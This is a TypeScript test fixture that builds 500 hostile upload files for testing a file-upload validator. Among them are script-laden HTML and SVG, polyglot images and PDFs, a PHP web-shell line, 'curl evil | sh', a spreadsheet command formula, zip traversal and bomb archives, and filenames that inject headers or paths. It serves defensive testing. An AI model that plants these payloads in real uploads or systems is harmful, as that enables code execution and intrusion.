import { fileTypes } from '../../src/platform/files/file-type.ts';
import {
  m4a,
  mp3,
  office,
  ogg,
  openDocument,
  pdf,
  phonePhoto,
  picture,
  talkativePng,
  talkativeWebp,
  webm,
  zip,
} from '../platform/files/samples.ts';
import { naughtyStrings } from '../security/naughty-strings.ts';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
  /** What the browser claims it is. */
  readonly type: string;
}

const page = '<!doctype html><script>alert(document.cookie)</script>';
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const bytesOf = (text: string): Buffer => Buffer.from(text);
const after = (head: Buffer, tail: string): Buffer => Buffer.concat([head, bytesOf(tail)]);
const [jpeg, png, webp] = [picture('image/jpeg'), picture('image/png'), picture('image/webp')];

/** Contents that are not what they seem, or are, with something behind. */
const contents: readonly Buffer[] = [
  bytesOf(page),
  bytesOf(drawing),
  bytesOf(`\ufeff${page}`),
  bytesOf('MZ\u0090\u0000This program cannot be run in DOS mode.'),
  bytesOf('\u007fELF\u0002\u0001\u0001'),
  bytesOf('#!/bin/sh\ncurl evil | sh'),
  bytesOf('=cmd|"/C calc"!A1'),
  bytesOf('<?php system($_GET["c"]); ?>'),
  bytesOf('%!PS-Adobe'),
  bytesOf('Rar!\u001a\u0007'),
  bytesOf('7z\u00bc\u00af\u0027\u001c'),
  bytesOf('\u001f\u008b\u0008'),
  bytesOf('GIF89a/*'),
  Buffer.alloc(0),
  Buffer.alloc(3_000, 0xff),
  Buffer.alloc(3_000),
  zip([{ name: '../../etc/passwd', content: 'root' }]),
  zip([{ name: 'a.html', content: page, packed: true }]),
  zip([{ name: '[Content_Types].xml', content: 'x'.repeat(9_000), packed: true }]),
  office('word/document.xml', [{ name: 'a', content: 'x', claimedSize: 4_200_000_000 }]),
  office('word/document.xml', [{ name: 'word/vbaProject.bin', content: 'x' }]),
  office('word/document.xml').subarray(0, 80),
  openDocument('text/html'),
  after(office('word/document.xml'), page),
  // Taken, but only as what they are, without their tail and under our name.
  after(jpeg, page),
  after(png, drawing),
  after(webp, page),
  after(pdf, page),
  after(pdf, `${page}\n%%EOF`),
  phonePhoto(),
  talkativePng(),
  talkativeWebp(),
  jpeg.subarray(0, 90),
  png.subarray(0, 60),
  webp.subarray(0, 40),
  after(bytesOf('\u00ff\u00d8\u00ff'), page),
  after(png.subarray(0, 8), page),
  bytesOf('RIFF\u0010\u0000\u0000\u0000WEBPVP8X'),
  bytesOf(`ID3${page}`),
  bytesOf(`OggS${page}`),
  ogg('\u0080theora'),
  webm('V_VP9'),
  m4a('vide', 'isom'),
  m4a(),
  mp3(),
  ogg(),
  office('xl/workbook.xml'),
  openDocument(fileTypes.ods.mime),
];

const names: readonly string[] = [
  'skizze.pdf',
  'foto.jpg.exe',
  'foto.png.html',
  'harmlos\u202Efdp.svg',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow',
  'C:\\fakepath\\a.docx',
  'a\u0000.pdf',
  'a"; filename="b.html',
  'a\r\nContent-Type: text/html\r\n\r\nx.pdf',
  '=HYPERLINK("http://evil","x").xlsx',
  '<img src=x onerror=alert(1)>.png',
  '"><script>alert(1)</script>.pdf',
  `${'sehr-'.repeat(300)}lang.pdf`,
  '🎉👩‍👩‍👧‍👦 مرحبا Привіт.pdf',
  'CON',
  '.htaccess',
  '.',
  '..',
  ' ',
  'a;b=c.pdf',
  '%2e%2e%2fpasswd',
  '\u{E000}\uFFFE.pdf',
];

const types = ['image/png', 'text/html', 'image/svg+xml', 'application/pdf', 'application/x-msdownload'];

/** Every content under some names, and every name on something good: 500 in all. */
export const hostileFiles: readonly HostileFile[] = Array.from({ length: 500 }, (_, index) => {
  const allNames = [...names, ...naughtyStrings];
  const isAboutName = index % 2 === 1;
  return {
    name: allNames[(index * 7) % allNames.length] ?? 'x',
    bytes: (isAboutName ? pdf : contents[(index / 2) % contents.length]) ?? pdf,
    type: types[index % types.length] ?? 'image/png',
  };
});
